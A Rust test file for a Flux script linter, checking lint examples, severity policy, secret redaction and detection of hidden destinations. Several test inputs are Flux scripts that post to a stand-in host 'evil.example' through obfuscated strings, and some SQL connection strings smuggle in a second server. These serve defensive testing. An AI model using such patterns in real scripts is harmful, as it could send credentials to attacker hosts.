//! Lints: each has a page with a bad and a good script, and finds what it should in the one and nothing in the other.
//!
//! `UPDATE_EXPECTED=1` writes the pages anew, of `src/diagnostic/pages/flux.md` and `tests/lints`.

use std::collections::BTreeSet;
use std::fmt::Write as _;
use std::fs;
use std::path::Path;

use fluxform::diagnostic::{Code, Diagnostic, Level, Severity};
use fluxform::flux::parser::parse;
use fluxform::flux::refs::{Target, references};
use fluxform::flux::{AuthorScript, Schedule, TaskHead};
use fluxform::manifest::{Inputs, Loaded, load};
use serde_json::json;

use crate::cli::fluxform::Fluxform;
use crate::facts::columns::{refused, sample};
use crate::published::holds;
use crate::support::real;

fn lints() -> impl Iterator<Item = (Code, Level)> {
    Code::ALL.iter().filter_map(|code| Some((*code, code.level()?)))
}

fn name(code: Code) -> &'static str {
    code.text().split_once("::").unwrap().1
}

/// What `tests/lints` has for a lint, a script or a project, and in which language.
fn example(code: Code, which: &str) -> (&'static str, String) {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/lints").join(name(code));
    let read =
        |language: &'static str| Some((language, fs::read_to_string(dir.join(format!("{which}.{language}"))).ok()?));
    read("flux").or_else(|| read("toml")).unwrap_or_else(|| panic!("{} has no {which} script", dir.display()))
}

/// What is said of a project; `policy` is its `[policy.lint]`, and `script` the script of a task that runs each hour.
fn said(policy: &str, (language, text): (&str, String)) -> Vec<Diagnostic> {
    let dir = tempfile::tempdir().unwrap();
    let project = match language {
        "toml" => text,
        _ => {
            fs::write(dir.path().join("script.flux"), text).unwrap();
            "[task.it]\nevery = \"1h\"\nflux = { file = \"script.flux\" }\n".to_owned()
        }
    };
    let project = format!("[project]\nname = \"p\"\n[policy.lint]\n{policy}\n{project}");
    fs::write(dir.path().join("main.toml"), project).unwrap();
    match load(dir.path(), &Inputs::default()) {
        Ok(Loaded { warnings, .. }) => warnings,
        Err(errors) => errors,
    }
}

fn codes(said: &[Diagnostic]) -> Vec<(Code, Severity)> {
    said.iter().map(|one| (one.code, one.severity)).collect()
}

#[test]
fn each_lint_finds_its_bad_script_and_leaves_the_good_one_alone() {
    for (code, _) in lints() {
        let bad = said(&format!("\"{code}\" = \"warn\""), example(code, "bad"));
        assert_eq!(codes(&bad), [(code, Severity::Warning)], "{bad:#?}");
        assert!(bad[0].help.is_some() && !bad[0].places.is_empty(), "{code}");
        let good = said(&format!("\"{code}\" = \"warn\""), example(code, "good"));
        assert_eq!(codes(&good), [], "{code}: {good:#?}");
        let denied = said(&format!("\"{code}\" = \"deny\""), example(code, "bad"));
        assert_eq!(codes(&denied), [(code, Severity::Error)], "{denied:#?}");
        assert_eq!(codes(&said(&format!("\"{code}\" = \"allow\""), example(code, "bad"))), [], "{code}");
    }
}

#[test]
fn each_lint_has_a_page() {
    let mut index = String::from(
        "# Lints\n\nWhat fluxform finds in scripts that InfluxDB takes. See [manifest.md](../manifest.md#lints).\n\n\
         | lint | default | finds |\n|---|---|---|\n",
    );
    for (code, level) in lints() {
        let (name, title) = (name(code), code.title());
        let _ = writeln!(index, "| [`{code}`]({name}.md) | {level} | {title} |");
        let set = code.set_by().unwrap();
        let mut page = format!("# {code}\n\n{title}.\n\n{}\n\n{set}\n", code.page());
        for (which, heading) in [("bad", "Found"), ("good", "Not found")] {
            let (language, text) = example(code, which);
            let _ = write!(page, "\n## {heading}\n\n```{language}\n{text}```\n");
        }
        holds(&format!("docs/lints/{name}.md"), &page);
    }
    holds("docs/lints/README.md", &index);
    let count = |dir: &str| fs::read_dir(Path::new(env!("CARGO_MANIFEST_DIR")).join(dir)).unwrap().count();
    assert_eq!(
        (count("docs/lints"), count("tests/lints")),
        (lints().count() + 1, lints().count()),
        "a page of no lint"
    );
}

const NO_RANGE: &str = "from(bucket: \"raw\")\n    |> limit(n: 1)\n";

#[test]
fn a_comment_allows_a_lint_beside_its_line() {
    let script = |comment: &str, end: &str| {
        let text = format!("x = 1\n{comment}from(bucket: \"raw\"){end}\n    |> limit(n: 1)\n");
        codes(&said("", ("flux", text)))
    };
    let found = [(Code::FluxNoRange, Severity::Warning)];
    assert_eq!(script("", ""), found);
    assert_eq!(script("// fluxform: allow flux::no-range it never runs\n", ""), []);
    assert_eq!(script("", " // fluxform: allow flux::no-range"), []);
    assert_eq!(script("// fluxform: allow flux::wide-range\n", ""), found);
    let denied =
        said("\"flux::no-range\" = \"deny\"", ("flux", format!("// fluxform: allow flux::no-range\n{NO_RANGE}")));
    assert_eq!(codes(&denied), []);

    let manifest = |head: &str, flux: &str, end: &str| {
        let text = format!("{head}\nevery = \"1h\"\n{flux}flux = '''\n{NO_RANGE}'''{end}\n");
        codes(&said("", ("toml", text)))
    };
    let allow = "# fluxform: allow flux::no-range";
    assert_eq!(manifest("[task.a]", "", ""), found);
    assert_eq!(manifest(&format!("{allow} it never runs\n# indeed\n[task.a]"), "", ""), []);
    assert_eq!(manifest(&format!("[task.a] {allow}"), "", ""), []);
    assert_eq!(manifest("[task.a]", &format!("{allow}\n"), ""), []);
    assert_eq!(manifest("[task.a]", "", &format!(" {allow}")), []);
    assert_eq!(manifest(&format!("{allow}\n[bucket.b]\n[task.a]"), "", ""), found);
    assert_eq!(manifest("[task.a]", &format!("description = \"{allow}\"\n"), ""), found);
}

#[test]
fn of_many_places_the_first_are_shown_and_the_others_counted() {
    let tasks = |count: usize| -> String {
        let task = |n| format!("[task.t{n:03}]\nevery = \"1h\"\nflux = '''\n{NO_RANGE}'''\n");
        (0..count).map(task).collect()
    };
    let messages = |policy: &str, count: usize| -> Vec<String> {
        said(policy, ("toml", tasks(count))).into_iter().map(|one| one.message).collect()
    };
    assert_eq!(messages("", 5).len(), 5);
    let many = messages("", 300);
    assert_eq!(many.len(), 5);
    assert_eq!(many[4], "296 more places where `flux::no-range` finds something");
    assert_eq!(messages("\"flux::no-range\" = \"deny\"", 50).len(), 50);
    // Instances have one script.
    let each = format!("[task.t]\nfor_each = [\"a\", \"b\", \"c\"]\nevery = \"1h\"\nflux = '''\n{NO_RANGE}'''\n");
    assert_eq!(said("", ("toml", each)).len(), 1);
}

#[test]
fn a_denied_lint_stops_validate() {
    let dir = tempfile::tempdir().unwrap();
    let project = |level: &str| {
        let text = format!(
            "[project]\nname = \"p\"\n[policy.lint]\n\"flux::no-range\" = \"{level}\"\n\
             [variable.v]\nquery = '''\n{NO_RANGE}'''\n"
        );
        fs::write(dir.path().join("main.toml"), text).unwrap();
        Fluxform::new(&["validate"]).arg(dir.path()).run()
    };
    assert!(project("deny").with(65).err.contains("flux::no-range"));
    assert!(project("warn").with(0).err.contains("flux::no-range"));
    assert_eq!(project("allow").with(0).err, "");
}

#[test]
fn what_policy_says_of_no_lint_is_an_error() {
    for (policy, message, help) in [
        ("\"flux::no-rnge\" = \"warn\"", "there is no lint `flux::no-rnge`", "did you mean `flux::no-range`?"),
        ("\"flux::syntax\" = \"warn\"", "`flux::syntax` is no lint: how bad it is cannot be changed", "the lints are"),
        ("\"flux::no-range\" = \"warning\"", "unknown value `warning` for `flux::no-range`", ""),
        ("\"flux::no-range\" = 1", "`flux::no-range` must be a string", ""),
    ] {
        let said = said(policy, ("toml", String::new()));
        assert_eq!(said.len(), 1, "{said:?}");
        assert_eq!((said[0].message.as_str(), said[0].severity), (message, Severity::Error));
        assert!(said[0].help.clone().unwrap_or_default().contains(help), "{said:?}");
    }
}

/// What lints find in a script of a task that runs each hour, each with the text of its place.
pub(crate) fn found(script: &str) -> Vec<(Code, String)> {
    let all: String = lints().map(|(code, _)| format!("\"{code}\" = \"warn\"\n")).collect();
    let of = |one: Diagnostic| {
        let (place, _) = &one.places[0];
        (one.code, place.source.text[place.span.clone()].to_owned())
    };
    let own = [Code::FluxNoMeasurement, Code::FluxNoOffset];
    said(&all, ("flux", script.to_owned())).into_iter().map(of).filter(|(code, _)| !own.contains(code)).collect()
}

#[test]
fn a_lint_finds_no_more_than_it_says() {
    use Code as C;
    let range = "from(bucket: \"b\") |> range(start: -1h) |> ";
    let mean = "aggregateWindow(every: 1h, fn: mean)";
    let host = "group(columns: [\"host\"])";
    for (code, script, place) in [
        // A `range` must be next, whatever the way.
        (Some(C::FluxNoRange), "f = () => from(bucket: \"b\")\nf() |> range(start: -1h)\nf() |> last()", "from"),
        (Some(C::FluxNoRange), "a = from(bucket: \"b\")\nunion(tables: [a, a]) |> range(start: -1h)", "from"),
        (Some(C::FluxNoRange), "from(bucket: \"b\")", "from"),
        (None, "f = (tables=<-) => tables |> range(start: -1h)\nfrom(bucket: \"b\") |> f() |> last()", ""),
        (None, "a = from(bucket: \"b\")\nb = a |> range(start: -1h)\nb |> last()", ""),
        (None, "from(bucket: \"b\", host: \"http://h\", org: \"o\") |> last()", ""),
        (None, "import \"csv\"\ncsv.from(csv: \"\") |> last()", ""),
        // What is read must be as long as a window, and not 100 times as long as a run is apart.
        (Some(C::FluxWideWindow), "from(bucket: \"b\") |> range(start: -2h, stop: -90m) |> window(every: 31m)", "31m"),
        (
            Some(C::FluxWideWindow),
            "from(bucket: \"b\") |> range(start: -27d) |> aggregateWindow(every: 1mo, fn: sum)",
            "1mo",
        ),
        (None, "from(bucket: \"b\") |> range(start: -28d) |> aggregateWindow(every: 1mo, fn: sum)", ""),
        (None, "from(bucket: \"b\") |> range(start: -task.every) |> aggregateWindow(every: task.every, fn: sum)", ""),
        (None, "from(bucket: \"b\") |> range(start: 0) |> aggregateWindow(every: 1d, fn: sum)", ""),
        (
            Some(C::FluxWideRange),
            "from(bucket: \"b\") |> range(start: -101h) |> aggregateWindow(every: 1h, fn: sum) |> to(bucket: \"c\")",
            "-101h",
        ),
        (
            None,
            "from(bucket: \"b\") |> range(start: -100h) |> aggregateWindow(every: 1h, fn: sum) |> to(bucket: \"c\")",
            "",
        ),
        (
            None,
            "from(bucket: \"b\") |> range(start: -30d) |> aggregateWindow(every: 1d, fn: sum) |> to(bucket: \"c\")",
            "",
        ),
        (None, "from(bucket: \"b\") |> range(start: -30d) |> max() |> to(bucket: \"c\")", ""),
        // Other names, tags or buckets are other series; so is what is computed from several.
        (
            Some(C::FluxOwnOutput),
            &format!("{range}map(fn: (r) => ({{r with _value: 2.0}})) |> {mean} |> to(bucket: \"b\")"),
            "\"b\"",
        ),
        (None, &format!("{range}{mean} |> to(bucket: \"c\")"), ""),
        (None, &format!("{range}{mean} |> map(fn: (r) => ({{r with host: \"a\"}})) |> to(bucket: \"b\")"), ""),
        (None, &format!("{range}{mean} |> to(bucket: \"b\", fieldFn: (r) => ({{m: r._value}}))"), ""),
        (None, &format!("{range}filter(fn: (r) => r.a == \"x\") |> to(bucket: \"b\")"), ""),
        (None, &format!("a = {range}{mean}\njoin(tables: {{a: a, b: a}}, on: [\"host\"]) |> to(bucket: \"b\")"), ""),
        // What is taken away is gone until it is made again.
        (Some(C::FluxMissingColumn), &format!("{range}drop(columns: [\"_time\"]) |> window(every: 1m)"), "window"),
        (Some(C::FluxMissingColumn), &format!("f = (t=<-) => t |> sum()\n{range}f() |> to(bucket: \"c\")"), "to"),
        (Some(C::FluxMissingColumn), &format!("{range}{host} |> {mean} |> to(bucket: \"c\")"), "to"),
        (None, &format!("f = (r) => r\n{range}{host} |> {mean} |> map(fn: (r) => f(r)) |> to(bucket: \"c\")"), ""),
        (None, &format!("{range}{host} |> aggregateWindow(every: 1h, fn: last) |> to(bucket: \"c\")"), ""),
        (None, &format!("{range}mean() |> map(fn: (r) => ({{r with _time: now()}})) |> to(bucket: \"c\")"), ""),
        (None, &format!("{range}mean() |> to(bucket: \"c\", timeColumn: \"_stop\")"), ""),
        (None, &format!("a = {range}mean()\nunion(tables: [a, a]) |> to(bucket: \"c\")"), ""),
        (None, &format!("{range}mean() |> yield()"), ""),
        (Some(C::FluxRefused), &format!("union(tables: [{range}last()])"), "union"),
        (Some(C::FluxRefused), &format!("{range}to(bucket: \"c\", token: task.name)"), "to"),
        // Line ends mean nothing.
        (Some(C::FluxJoinedLines), "f = (x) => x\n(x: 1)", "("),
        (Some(C::FluxJoinedLines), "f = () => {\n    a = [1]\n    [0]\n    return a\n}", "["),
        (Some(C::FluxJoinedLines), "f = (t=<-) => t\noption now = () => 2026-01-01T00:00:00Z\n|> f()", "|>"),
        (None, "b = [\n1\n- 1\n]\nf = () => {\na = 1\n    - 1\nreturn a\n}", ""),
        (None, &format!("{range}\n|> max()").replace(" |> \n", "\n"), ""),
        // A `filter` that needs what a `map` has set cannot come first.
        (
            Some(C::FluxLateFilter),
            &format!("{range}map(fn: (r) => ({{r with a: 1}})) |> filter(fn: (r) => r.b == \"x\")"),
            "filter",
        ),
        (None, &format!("{range}map(fn: (r) => ({{r with a: 1}})) |> filter(fn: (r) => r.a == 1)"), ""),
        (None, &format!("{range}map(fn: (r) => ({{a: 1}})) |> filter(fn: (r) => r.b == 1)"), ""),
        (None, &format!("{range}group() |> sum() |> filter(fn: (r) => r._value > 1)"), ""),
        (None, &format!("f = (r) => r.a == 1\n{range}group() |> filter(fn: (r) => f(r))"), ""),
        // One text, and no more.
        (Some(C::FluxRegexEquality), &format!("{range}filter(fn: (r) => r.a !~ /^web\\.1$/)"), "!~ /^web\\.1$/"),
        (
            None,
            &format!("{range}filter(fn: (r) => r.a =~ /^web.1$/ or r.a =~ /^web/ or r.a =~ /^a|b$/ or r.a =~ /^\\d$/)"),
            "",
        ),
        (Some(C::FluxReformatted), "x = \"\\${a} ${1}\"", "\\${a} "),
        (None, "x = \"\\${a}\"\ny = -(1 * 2)\nz = (1 + 2) * 3", ""),
        (None, &format!("{range}group(columns: [\"_value\"], mode: \"except\")"), ""),
    ] {
        let expected: Vec<_> = code.into_iter().map(|code| (code, place.to_owned())).collect();
        assert_eq!(found(script), expected, "{script}");
    }
}

/// The scripts of an example as the server runs them.
fn scripts((language, text): (&str, String)) -> Vec<String> {
    let (name, schedule) = ("it".to_owned(), Schedule::Every("1h".to_owned()));
    let head = TaskHead { name, schedule, offset: None, extra: Vec::new() };
    let written = match language {
        "flux" => vec![text],
        _ => {
            let project: toml::Table = text.parse().unwrap();
            let of = |kind: &str, field: &str| -> Vec<String> {
                let all = project.get(kind).and_then(toml::Value::as_table).into_iter().flatten();
                all.map(|(_, one)| one[field].as_str().unwrap().to_owned()).collect()
            };
            [of("task", "flux"), of("variable", "query")].concat()
        }
    };
    written.iter().map(|script| AuthorScript::read(script, None).unwrap().compose(&head, None).unwrap()).collect()
}

/// Calls that leave no time.
const TIMELESS: [&str; 17] = [
    "columns()",
    "count()",
    "covariance(columns: [\"_value\", \"_value\"])",
    "distinct()",
    "histogram(bins: [100.0])",
    "integral()",
    "keys()",
    "keyValues(keyColumns: [\"host\"])",
    "mean()",
    "median()",
    "mode()",
    "quantile(q: 0.5)",
    "reduce(fn: (r, accumulator) => ({_value: accumulator._value + 1.0}), identity: {_value: 0.0})",
    "skew()",
    "spread()",
    "stddev()",
    "sum()",
];

real!(what_is_proposed_for_a_missing_time_runs, async |scene| {
    sample(&scene, "raw").await;
    let read = "from(bucket: \"raw\")\n    |> range(start: -1h)\n    |> filter(fn: (r) => r._field == \"usage\")";
    let (end, lacks) =
        ("|> window(every: 5m)", |script: &str| found(script).iter().any(|(code, _)| *code == Code::FluxMissingColumn));
    for before in ["limit(n: 9)", "group() |> sort(columns: [\"_time\"])"] {
        for call in TIMELESS {
            let bad = format!("{read} |> {before} |> {call}");
            let said = said("", ("flux", format!("{bad} {end}")));
            let help = said.iter().find(|one| one.code == Code::FluxMissingColumn).and_then(|one| one.help.clone());
            let help = help.unwrap_or_else(|| panic!("{bad}: {said:?}"));
            let proposed: Vec<_> = help.split('`').skip(1).step_by(2).collect();
            assert!(!proposed.is_empty(), "{help}");
            for code in proposed {
                let code = code.replace("every: ...", "every: 5m").replace("q: ...", "q: 0.5");
                let good = if code.starts_with("|>") {
                    format!("{bad} {code}")
                } else {
                    format!("{read} |> {before} |> {code}")
                };
                let good = format!("{good} {end}\n");
                assert!(!lacks(&good), "{good}");
                assert_eq!(refused(&scene, &good).await, None, "{good}");
            }
        }
    }
});

real!(each_good_script_runs, async |scene| {
    sample(&scene, "raw").await;
    scene.http.patch(&format!("orgs/{}/secrets", scene.org), json!({"slack-token": "x"})).await.expect(204);
    // Nothing goes to Slack.
    let slack = format!("option slack.defaultURL = \"{}/ping\"\noption task", scene.http.url());
    let mut buckets = BTreeSet::from(["raw".to_owned()]);
    for (code, _) in lints() {
        let good = scripts(example(code, "good"));
        assert!(!good.is_empty(), "{code}");
        for script in good {
            for bucket in
                references(&parse(&script).script, &[]).all.into_iter().filter(|one| one.target == Target::Bucket)
            {
                let name = bucket.name.unwrap();
                if buckets.insert(name.clone()) {
                    scene.bucket(&name).await;
                }
            }
            let is_told = script.contains("import \"slack\"");
            let script = if is_told { script.replacen("option task", &slack, 1) } else { script };
            assert_eq!(refused(&scene, &script).await, None, "{code}\n{script}");
        }
    }
});

#[test]
fn a_script_that_writes_into_another_org_is_found_where_the_org_is_known() {
    let script = "flux = 'from(bucket: \"b\") |> range(start: -1h) |> to(bucket: \"c\", org: \"acme\")'\n";
    let of = |org: &str| {
        let project = format!("[server]\n{org}\n[task.a]\nevery = \"1h\"\n{script}");
        codes(&said("", ("toml", project)))
    };
    assert_eq!(of("org = \"other\""), [(Code::FluxOtherOrg, Severity::Warning)]);
    assert_eq!(of("org = \"acme\""), []);
    assert_eq!(of(""), []);
}

#[test]
fn scripts_of_checks_and_variables_are_looked_at_too() {
    let query = "from(bucket: \"b\") |> range(start: -1m) |> group(columns: [\"_measurement\"]) |> filter(fn: (r) => r._field == \"u\") |> window(every: 1h)";
    for project in [
        format!(
            "[check.c]\nevery = \"1h\"\ndeadman = {{ level = \"crit\", after = \"90s\", forget = \"10m\" }}\nmessage = \"m\"\nflux = '''\n{query}\n'''\n"
        ),
        format!("[variable.v]\nquery = '''\n{}\n'''\n", query.replace(" |> window(every: 1h)", "")),
    ] {
        let said = said("", ("toml", project.clone()));
        // A check has times of its own, so that of a window nothing is known.
        assert_eq!(codes(&said), [(Code::FluxLateFilter, Severity::Warning)], "{project}\n{said:#?}");
    }
}

#[test]
fn a_secret_is_shown_nowhere() {
    let (_, script) = example(Code::FluxSecretLiteral, "bad");
    let secret = "xoxb-1234-example";
    assert!(script.contains(secret));
    let dir = tempfile::tempdir().unwrap();
    let inline = format!("[task.inline]\nevery = \"1h\"\nflux = '''\n{script}'''\n");
    let file = "[task.file]\nevery = \"1h\"\nflux = { file = \"script.flux\" }\n";
    fs::write(dir.path().join("main.toml"), format!("[project]\nname = \"p\"\n{inline}{file}")).unwrap();
    fs::write(dir.path().join("script.flux"), script).unwrap();
    for format in ["human", "json", "markdown"] {
        let ended = Fluxform::new(&["validate", "--format", format]).arg(dir.path()).run().with(0);
        let shown = ended.out + &ended.err;
        assert!(shown.matches("flux::secret-literal").count() >= 2 && !shown.contains(secret), "{shown}");
    }
}

#[test]
fn a_secret_is_found_wherever_a_script_gets_it() {
    let token = "ghp_0123456789abcdefghijABCDEFGHIJ012345";
    let query = format!("tok = \"{token}\"\nfrom(bucket: \"b\") |> range(start: -1h)");
    let dashboard = format!(
        "[dashboard.d]\n[[dashboard.d.cell]]\nname = \"c\"\nat = [0, 0]\nsize = [4, 4]\nxy = {{}}\nflux = '''\n{query}\n'''\n"
    );
    let task = format!(
        "[task.t]\nevery = \"1h\"\noffset = \"1m\"\nflux = \"x = params.t\"\nparams = {{ t = \"{token}\", plain = \"x\" }}\n"
    );
    let check = format!(
        "[check.c]\nevery = \"1m\"\nflux = 'from(bucket: \"b\") |> range(start: -1m)'\n\
         deadman = {{ level = \"crit\", after = \"90s\", forget = \"10m\" }}\nmessage = \"${{ r.host }} {token}\"\n"
    );
    for project in [dashboard, task, check] {
        let found = said("\"flux::secret-literal\" = \"deny\"", ("toml", project.clone()));
        assert_eq!(codes(&found), [(Code::FluxSecretLiteral, Severity::Error)], "{project}: {found:#?}");
        let dir = tempfile::tempdir().unwrap();
        fs::write(dir.path().join("main.toml"), format!("[project]\nname = \"p\"\n{project}")).unwrap();
        let shown = Fluxform::new(&["validate"]).arg(dir.path()).run().with(0).all();
        assert!(shown.contains("flux::secret-literal") && !shown.contains(token), "{shown}");
    }
}

/// Whoever writes the script must not have the last word on what nobody can see.
#[test]
fn a_hidden_string_in_a_script_of_unknown_places_is_said_and_cannot_be_allowed() {
    let allow = "\"flux::secret-literal\" = \"allow\"\n\"flux::unknown-bucket\" = \"allow\"\n\"flux::no-measurement\" = \"allow\"";
    let post = "import \"http\"\nimport \"strings\"\nimport \"array\"\n";
    let by = |script: &str| codes(&said(allow, ("flux", script.to_owned())));
    for script in [
        "token = if 1 == 1 then \"evil.example\" else \"x.example\"\nhttp.post(url: \"https://\" + token)",
        "token = strings.replaceAll(v: \"evil#example\", t: \"#\", u: \".\")\nhttp.post(url: \"https://${token}\")",
        "array.from(rows: [{password: \"evil.example\"}]) |> map(fn: (r) => ({r with x: http.post(url: \"https://\" + r.password)}))",
        "import \"slack\"\ntoken = if 1 == 1 then \"evil.example\" else \"x\"\noption slack.defaultURL = \"https://\" + token\nslack.message(token: \"\", channel: \"c\", text: \"t\", color: \"good\")",
        "import \"contrib/sranka/telegram\"\ntelegram.message(url: \"https://x\", token: \"@evil.example/abc\", channel: \"c\", text: \"t\")",
        "import \"sql\"\npassword = \"x host=evil.example\"\nsql.from(driverName: \"postgres\", dataSourceName: \"host=good password=\" + password, query: \"q\")",
        "import \"sql\"\nsql.from(driverName: \"sqlserver\", dataSourceName: \"server=good;password='x;server=evil.example;a='\", query: \"q\")",
        "password = strings.trimSpace(v: \" raw7 \")\nfrom(bucket: password) |> range(start: -1h) |> yield()",
        "import \"experimental/influxdb\"\ntoken = \"@evil.example/\"\ninfluxdb.api(method: \"get\", host: \"http://a.example\", path: token)",
        "import \"experimental/influxdb\"\ntoken = strings.trimSpace(v: \"@evil.example/\")\ninfluxdb.api(method: \"get\", host: \"http://a.example\", path: token + \"/\")",
    ] {
        assert_eq!(by(&format!("{post}{script}")), [(Code::FluxHiddenPlace, Severity::Warning)], "{script}");
    }
    for script in [
        "e = \"\"\ntoken = \"https://${e}evil.example/x\"\nhttp.post(url: token)",
        "import \"contrib/sranka/telegram\"\ntelegram.message(token: \"123456:ABC-def\", channel: \"c\", text: \"t\")",
        "x = if 1 == 1 then \"a.example\" else \"b.example\"\nhttp.post(url: \"https://\" + x)",
        "token = \"S3KRIT\"\nhttp.post(url: \"https://a.example\", headers: {Authorization: \"Token \" + token})",
        "import \"slack\"\noption slack.defaultURL = \"https://s.example/x\"\nslack.message(token: \"S3KRIT\", channel: \"c\", text: \"t\", color: \"good\")",
        "import \"contrib/sranka/telegram\"\noption telegram.defaultURL = \"https://t.example/bot\"\ntelegram.message(token: \"123456:ABC-def\", channel: \"c\", text: \"t\")",
        "import \"experimental/influxdb\"\nid = strings.trimSpace(v: \"x\")\ninfluxdb.api(method: \"get\", host: \"http://a.example\", path: \"/api/v2/tasks/\" + id, token: \"S3KRIT\")",
    ] {
        assert_eq!(by(&format!("{post}{script}")), [], "{script}");
    }
}

/// What a script gets from its manifest can hide a place as well as what it says itself.
#[test]
fn a_place_that_is_hidden_in_what_a_script_is_given_is_said() {
    let allow = "\"flux::secret-literal\" = \"allow\"\n\"flux::unknown-bucket\" = \"allow\"";
    let by = |task: &str, script: &str| {
        let project = format!(
            "[task.t]\nevery = \"1h\"\n{task}\nflux = '''\nimport \"http\"\nimport \"strings\"\n{script}\n'''\n"
        );
        codes(&said(allow, ("toml", project)))
    };
    let post = |url: &str| format!("http.post(url: {url})");
    let token = "params = { token = \"evil.example\" }";
    let telegram = "import \"contrib/sranka/telegram\"\ntelegram.message(url: \"https://x\", token: params.token, channel: \"c\", text: \"t\")";
    for (task, script) in [
        (token, post("strings.joinStr(arr: [\"https://\", params.token], v: \"\")")),
        (token, post("if exists params.token then params.token else \"good.example\"")),
        ("params = { token = \"@evil.example/abc\" }", telegram.to_owned()),
        (
            "params = { password = \"x host=evil.example\" }",
            "import \"sql\"\nsql.from(driverName: \"postgres\", dataSourceName: \"host=good password=\" + params.password, query: \"q\")".to_owned(),
        ),
        ("name = \"token=x@evil.example\"", post("\"https://\" + task.name")),
        ("name = \"token=x@evil.example\"\nparams = { token = \"S3KRIT\" }", post("\"https://\" + task.name")),
        ("name = \"token=evil.example\"", post("\"https://\" + strings.trimPrefix(v: task.name, prefix: \"token=\")")),
    ] {
        assert_eq!(by(task, &script), [(Code::FluxHiddenPlace, Severity::Warning)], "{task} {script}");
    }
    let named = |name: &str| {
        let script = "strings.trimPrefix(v: params.b, prefix: \"password=\")";
        let task = "params = { b = { bucket = \"bucket.bb\" } }\nflux = '''\nimport \"strings\"\nfrom(bucket: ";
        let task = format!(
            "{task}{script}) |> range(start: -1h)\n'''\n[bucket.bb]\nname = \"{name}\"\n[task.u]\nevery = \"1h\""
        );
        by(&task, "")
    };
    assert_eq!(named("password=evilb"), [(Code::FluxHiddenPlace, Severity::Warning)]);
    assert_eq!(named("evilb"), []);
    for (task, script) in [
        (token, post("\"https://\" + params.token")),
        ("params = { host = \"a.example\" }", post("strings.joinStr(arr: [\"https://\", params.host], v: \"\")")),
        ("name = \"token=x\"", post("\"https://a.example\"")),
        ("name = \"plain\"", post("\"https://\" + strings.trimSpace(v: task.name)")),
    ] {
        assert_eq!(by(task, &script), [], "{task} {script}");
    }
}

/// A value of a variable can hide a place as well, in whatever cell makes one of it.
#[test]
fn a_place_that_is_hidden_in_a_variable_is_said() {
    let by = |variable: &str, query: &str| {
        let cell = format!(
            "[[dashboard.d.cell]]\nat = [0, 0]\nsize = [4, 4]\nxy = {{}}\nflux = '''\nimport \"http\"\nimport \"strings\"\n{query}\n'''"
        );
        codes(&said("", ("toml", format!("[variable.vt]\n{variable}\n[dashboard.d]\n{cell}\n"))))
    };
    let post = |url: &str| format!("http.post(url: {url})");
    let map = "map = { password = \"evil.example\" }";
    for (variable, query) in [
        (map, post("\"https://\" + v.vt")),
        (map, post("\"https://\" + v[\"vt\"]")),
        (map, "d = v\nhttp.post(url: \"https://\" + d.vt)".to_owned()),
        ("values = [\"a\", \"token=x@evil.example\"]", post("\"https://${v.vt}\"")),
        (map, "from(bucket: strings.trimSpace(v: v.vt)) |> range(start: -1h)".to_owned()),
    ] {
        assert_eq!(by(variable, &query), [(Code::FluxHiddenPlace, Severity::Warning)], "{variable} {query}");
    }
    for (variable, query) in [
        ("values = [\"a.example\"]", post("\"https://\" + v.vt")),
        (map, post("\"https://a.example\", headers: {x: v.vt}")),
        (map, post("\"https://\" + v.other")),
        (map, "from(bucket: \"b\") |> range(start: v.timeRangeStart)".to_owned()),
    ] {
        assert_eq!(by(variable, &query), [], "{variable} {query}");
    }
}

#[test]
fn each_string_that_is_hidden_is_shown_at_its_place() {
    let script = "import \"http\"\npassword = \"S3KRIT\"\nhttp.post(url: \"https://\" + f(a: 1), headers: {Authorization: \"S4KRIT\", \"X-Token\": \"S5KRIT\"})\n";
    let found = said("\"flux::secret-literal\" = \"allow\"\n\"flux::name\" = \"allow\"", ("flux", script.to_owned()));
    let [found] = &*found else { panic!("{found:#?}") };
    assert_eq!(
        found.message,
        "3 strings are hidden in a script that reaches an address which is not known before it runs"
    );
    let text = |n: usize| {
        let (place, label) = &found.places[n];
        (&place.source.text[place.span.clone()], label.as_str())
    };
    let hidden = "shown as `***`";
    assert_eq!((text(0), text(1), text(2)), (("S3KRIT", hidden), ("S4KRIT", hidden), ("S5KRIT", hidden)));
    assert_eq!(text(3).1, "used here");
}

/// A function that nothing calls is refused by nobody.
#[test]
fn what_no_run_calls_is_not_refused_in_each() {
    let function = "one = (tables=<-) => union(tables: [tables])\n";
    let data = "from(bucket: \"raw\") |> range(start: -1h)";
    let by = |script: &str| codes(&said("", ("flux", format!("{function}{script}"))));
    assert_eq!(by(data), []);
    assert_eq!(by(&format!("{data} |> one()")), [(Code::FluxRefused, Severity::Warning)]);
    assert_eq!(by(&format!("{data} |> map(fn: one)")), [(Code::FluxRefused, Severity::Warning)]);
}
